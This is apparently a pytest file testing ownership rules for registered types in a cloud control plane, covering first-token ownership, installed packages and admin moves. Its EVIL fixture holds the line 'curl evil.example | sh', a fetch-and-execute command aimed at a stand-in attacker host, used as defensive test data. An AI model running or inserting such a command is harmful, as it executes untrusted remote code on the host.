"""A type belongs to the package installed here, else to the name of the token that brought it first (A4)."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import pytest
from sqlalchemy import select, update

from fractal_cloud.control.store import offers, tokens
from fractal_cloud.control.store.errors import NotFound, Refused, TypeOfAnother
from fractal_cloud.control.store.schema import types
from fractal_cloud.model.catalog import GlassCommands, TypeFacts
from fractal_cloud.rules.grants import EVERYTHING
from tests.store.playing import CATALOG, World

NET = CATALOG["Test.Net"]
EVIL = GlassCommands(break_glass=["curl evil.example | sh"])


def _bring(world: World, token: str, *facts: TypeFacts, installed: Mapping[str, TypeFacts] | None = None) -> None:
    with world.store.write() as tx:
        offers.register(tx, facts, token, installed or {})


def _changed(**more: Any) -> TypeFacts:
    return NET.model_copy(update=more)


def _stored(world: World) -> tuple[TypeFacts, str | None]:
    with world.store.read() as tx:
        row = tx.connection.execute(select(types).where(types.c.type == "Test.Net")).one()
    return TypeFacts.model_validate(row.facts), row.owner


def _token(world: World, name: str) -> None:
    with world.store.write() as tx:
        tokens.create(tx, tokens.NewToken(name, "agent", EVERYTHING, None, "ann"))


@pytest.mark.rule("A4")
def test_the_token_that_brings_a_type_first_owns_it_and_may_change_it(world: World) -> None:
    _bring(world, "first", NET)
    _bring(world, "first", _changed(title="a newer one"))
    facts, owner = _stored(world)
    assert (facts.title, owner) == ("a newer one", "first")


@pytest.mark.rule("A4")
@pytest.mark.parametrize(
    ("changed", "named"),
    [
        ({"glass": EVIL}, "glass"),
        ({"parameter_schema": {"type": "object", "properties": {}}}, "parameterSchema"),
        ({"provider": "other"}, "provider"),
        ({"taggable": False, "tags_frozen": True}, "taggable, tagsFrozen"),
    ],
)
def test_another_token_changes_nothing_of_it(world: World, changed: dict[str, Any], named: str) -> None:
    _bring(world, "first", NET)
    with pytest.raises(TypeOfAnother) as refused:
        _bring(world, "second", _changed(**changed))
    assert refused.value.message == (
        f"type 'Test.Net' belongs to token 'first', and this agent has another {named}: run the same version of its "
        "package, or have an admin move it: fractal types move Test.Net --to 'second'"
    )
    assert _stored(world) == (NET, "first")


@pytest.mark.rule("A4")
def test_another_token_may_bring_equal_facts(world: World) -> None:
    _bring(world, "first", NET)
    _bring(world, "second", NET)
    assert _stored(world) == (NET, "first")


@pytest.mark.rule("A4")
def test_an_installed_package_counts_before_every_agent(world: World) -> None:
    _bring(world, "first", _changed(glass=EVIL), installed={"Test.Net": NET})
    assert _stored(world) == (NET, "")
    _bring(world, "first", _changed(title="x"), installed={"Test.Net": NET})
    assert _stored(world) == (NET, "")


@pytest.mark.rule("A4")
def test_a_package_that_is_installed_later_becomes_the_owner_of_its_type(world: World) -> None:
    _bring(world, "first", _changed(title="the agent's"))
    _bring(world, "second", _changed(title="whatever"), installed={"Test.Net": NET})
    assert _stored(world) == (NET, "")


@pytest.mark.rule("A4")
def test_a_type_of_nobody_goes_to_whoever_brings_equal_facts_first(world: World) -> None:
    _bring(world, "first", NET)
    with world.store.write() as tx:
        tx.connection.execute(update(types).values(owner=None))  # as before owners were kept
    with pytest.raises(TypeOfAnother, match="belongs to nobody who is known by name"):
        _bring(world, "second", _changed(title="x"))
    _bring(world, "second", NET)
    assert _stored(world) == (NET, "second")


@pytest.mark.rule("A4")
def test_an_admin_moves_a_type_to_another_token(world: World) -> None:
    _bring(world, "first", NET)
    _token(world, "second")
    with world.store.write() as tx:
        moved = offers.move(tx, "Test.Net", "second", "ann", ())
    assert moved == {"type": "Test.Net", "before": "first", "owner": "second"}
    _bring(world, "second", _changed(title="x"))
    with pytest.raises(TypeOfAnother):
        _bring(world, "first", NET)
    [event] = [event for event in world.events("") if event["kind"] == "TypeMoved"]
    assert (event["by"], event["before"], event["after"]) == ("ann", "first", "second")


@pytest.mark.rule("A4")
def test_what_cannot_be_moved_is_said(world: World) -> None:
    _bring(world, "first", NET)
    with world.store.write() as tx:
        with pytest.raises(NotFound, match="there is no token 'nobody'"):
            offers.move(tx, "Test.Net", "nobody", "ann", ())
        with pytest.raises(NotFound, match=r"there is no type 'Test\.Nothing' that an agent brought"):
            offers.move(tx, "Test.Nothing", "first", "ann", ())
        with pytest.raises(Refused, match="is installed at the control plane"):
            offers.move(tx, "Test.Net", "first", "ann", ("Test.Net",))


@pytest.mark.rule("A4")
def test_an_installed_type_is_of_its_own_provider(world: World) -> None:
    with pytest.raises(TypeOfAnother, match="is installed at the control plane for 'test'"):
        _bring(world, "first", _changed(provider="other"), installed={"Test.Net": NET})
